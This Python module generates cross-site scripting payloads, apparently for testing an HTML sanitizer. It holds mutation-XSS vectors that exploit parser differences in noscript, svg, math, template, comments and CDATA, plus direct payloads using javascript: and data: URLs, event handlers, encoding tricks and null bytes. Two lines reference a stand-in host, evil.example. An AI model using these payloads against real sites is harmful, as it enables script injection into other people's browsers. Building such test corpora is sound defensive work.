"""Markup that tries to run: by the ways in which a sanitizer and a browser read one text differently."""

from __future__ import annotations

from collections.abc import Iterator

RUN = "alert(1)"

# Read as text by one and as markup by the other: elements whose content is raw, foreign, or a table's.
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<svg><desc><table><td></desc><img src=x onerror={run}>",
    '<math><annotation-xml encoding="text/html"><style></annotation-xml><img src=x onerror={run}>',
    "<table><tr><td><select><option><style></select></style><img src=x onerror={run}>",
    '<textarea><p title="</textarea><img src=x onerror={run}>">',
    '<xmp><p title="</xmp><img src=x onerror={run}>">',
    '<title><p title="</title><img src=x onerror={run}>">',
    "<plaintext><img src=x onerror={run}>",
    "<template><s><template><s><img src=x onerror={run}></s></template></s></template>",
    "<!--><img src=x onerror={run}>-->",
    "<!--!><img src=x onerror={run}>",
    "<!-- --!><img src=x onerror={run}> -->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "<svg><![CDATA[</svg><img src=x onerror={run}>]]>",
    '<?xml version="1.0"?><img src=x onerror={run}>',
    "<p><svg><foreignObject><p><style><img src=x onerror={run}></style></p></foreignObject></svg>",
)
# Attributes and addresses.
DIRECT = (
    "<a href=\"javascript:{run}\">a</a>",
    "<a href=\"&#x6A;avascript&colon;{run}\">a</a>",
    "<a href=\"java\tscript:{run}\">a</a>",
    "<a href=\"\x01javascript:{run}\">a</a>",
    "<a href=\"jav&NewLine;ascript:{run}\">a</a>",
    "<a href=\"data:text/html,<script>{run}</script>\">a</a>",
    "<a href=\"vbscript:{run}\">a</a>",
    "<a xlink:href=\"javascript:{run}\">a</a>",
    "<blockquote cite=\"javascript:{run}\">a</blockquote>",
    "<img src=\"javascript:{run}\">",
    "<img src=x:x onerror={run}>",
    "<img src=x:x\x0conerror={run}>",
    "<img src='x'onerror={run}>",
    "<img/src=\"x\"/onerror={run}>",
    "<img src=\"x` `<script>{run}</script>\"` `>",
    "<img srcset=\"javascript:{run} 1x\" onerror={run}>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>\">",
    "<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{run}\"></iframe>",
    "<object data=\"data:text/html,<script>{run}</script>\"></object>",
    "<embed src=\"data:image/svg+xml,<svg onload='{run}'/>\">",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='x' onerror='{run}'/></svg>#x\"/>",
    "<math href=\"javascript:{run}\">a</math>",
    "<form action=\"javascript:{run}\"><input type=submit></form>",
    "<button formaction=\"javascript:{run}\">a</button>",
    "<details open ontoggle={run}>a</details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<body onload={run}>",
    "<input autofocus onfocus={run}>",
    "<p tabindex=0 autofocus onfocus={run}>a</p>",
    "<marquee onstart={run}>a</marquee>",
    "<p style=\"animation-name:x\" onanimationstart={run}>a</p><style>@keyframes x{{}}</style>",
    "<p style=\"background:url(javascript:{run})\">a</p>",
    "<link rel=stylesheet href=\"data:text/css,*{{background:url(//evil.example/)}}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
    "<base href=\"javascript:{run}//\"><a href=\"x\">a</a>",
    "<script>{run}</script>",
    "<script src=\"data:,{run}\"></script>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "&lt;p&gt;a&lt;/p&gt;&lt;img src=x onerror={run}&gt;",
    "\x00<\x00img src=x onerror={run}>",
    "<img src=x on\x00error={run}>",
    "<a href=\"https://news.example/\" onclick={run} ping=\"https://evil.example/\">a</a>",
    "<q cite=\"javascript:{run}\" onmouseover={run}>a</q>",
    "<time datetime=\"x\" onmouseover={run}>a</time>",
    "<td background=\"javascript:{run}\">a</td>",
)  # fmt: skip


def own_payloads() -> Iterator[str]:
    """Each on its own, and each mutation around each of the quickest to run."""
    for template in (*DIRECT, *MUTATIONS):
        yield template.format(run=RUN)
    for outer in MUTATIONS:
        for inner in ("<svg onload={run}>", "<script>{run}</script>", "<iframe src=javascript:{run}>"):
            yield outer.format(run=RUN).replace(f"<img src=x onerror={RUN}>", inner.format(run=RUN))
